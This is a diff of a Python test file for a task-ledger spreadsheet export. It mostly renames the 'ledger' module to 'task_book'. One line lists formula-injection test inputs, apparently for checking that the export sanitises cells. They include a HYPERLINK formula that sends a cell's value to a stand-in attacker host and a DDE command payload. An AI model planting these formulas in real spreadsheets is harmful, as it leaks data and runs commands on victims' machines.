@@ -32,7 +32,7 @@ from schemas.events.task import (
     TaskReviewed,
     TaskSigned,
 )
-from streams.books import ledger
+from streams.books import task_book
 from streams.views.ledger_sheet import COLUMNS, workbook
 
 ZONE = ZoneInfo("Asia/Shanghai")
@@ -44,15 +44,15 @@ LIGHT = COLUMNS.index("亮灯") + 1
 FIRST_TASK_ROW = 3
 
 
-def _book(*events: TaskEvent, start: datetime = CREATED) -> ledger.State:
+def _book(*events: TaskEvent, start: datetime = CREATED) -> task_book.State:
     """The ledger's book after ``events``, one day apart from ``start``."""
     book = None
     for n, event in enumerate(events):
         at = start + timedelta(days=n)
         envelope = Envelope.wrap(event, source="midfield://tasks/test", position=f"{n}",
                                  subject=event.task_id, time=at, ingested_at=at)  # fmt: skip
-        outcome = ledger.apply(book, envelope)
-        assert isinstance(outcome, ledger.Applied), outcome
+        outcome = task_book.apply(book, envelope)
+        assert isinstance(outcome, task_book.Applied), outcome
         book = outcome.book
     assert book is not None
     return book
@@ -64,7 +64,7 @@ def _created(task_id: str, deadline: date, **fields: Any) -> TaskCreated:
                        **fields)  # fmt: skip
 
 
-def _working(task_id: str, deadline: date, *more: TaskEvent, **fields: Any) -> ledger.State:
+def _working(task_id: str, deadline: date, *more: TaskEvent, **fields: Any) -> task_book.State:
     assigned = TaskAssigned(task_id=task_id, actor="office")
     signed = TaskSigned(task_id=task_id, actor="edu")
     return _book(_created(task_id, deadline, **fields), assigned, signed, *more)
@@ -92,10 +92,10 @@ CLOSED = _working(
 @pytest.fixture(scope="module")
 def sheet() -> Any:
     """The ledger sheet of the four tasks, handed over out of order, with a refused stub."""
-    stub = ledger.apply(None, Envelope.wrap(
+    stub = task_book.apply(None, Envelope.wrap(
         TaskSigned(task_id="DC-999", actor="edu"), source="midfield://tasks/test", position="x",
         subject="DC-999", time=CREATED, ingested_at=CREATED))  # fmt: skip
-    assert isinstance(stub, ledger.Refused)
+    assert isinstance(stub, task_book.Refused)
     data = workbook([YELLOW, CLOSED, stub.book, RED, GREEN], NOW, RULES, ZONE, NAMES)
     return load_workbook(BytesIO(data)).active
 
@@ -193,7 +193,7 @@ DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+cmd|' /C cal
 """Text starting with each character OWASP lists: ``=``, ``+``, ``-``, ``@``, tab, CR."""
 
 
-def _sheet_of(book: ledger.State) -> Any:
+def _sheet_of(book: task_book.State) -> Any:
     return load_workbook(BytesIO(workbook([book], NOW, RULES, ZONE, NAMES))).active
 
 
